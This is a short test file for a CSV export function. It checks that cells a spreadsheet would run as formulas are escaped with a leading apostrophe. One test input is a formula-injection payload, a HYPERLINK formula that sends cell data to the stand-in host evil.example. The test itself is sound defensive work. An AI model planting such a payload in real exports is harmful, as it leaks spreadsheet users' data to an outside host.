import { toCsv } from '../../../src/services/reports/csv'

describe('CSV exports', () => {
  it('neutralises every cell a spreadsheet would run as a formula', () => {
    const csv = toCsv([
      { name: '=HYPERLINK("http://evil.example/?d="&A1,"报表")', n: 1 },
      { name: '+86 138', n: -5 },
      { name: '-2+3', n: 0 },
      { name: '@SUM(A1)', n: 2 },
      { name: '\tindent', n: 3 },
      { name: '\rreturn', n: 4 },
      { name: '张三', n: 5 },
    ])
    const names = csv.split('\r\n').slice(1, -1)
    expect(names).toEqual([
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""报表"")",1`,
      `'+86 138,-5`,
      `'-2+3,0`,
      `'@SUM(A1),2`,
      `'\tindent,3`,
      `"'\rreturn",4`,
      `张三,5`,
    ])
  })
})
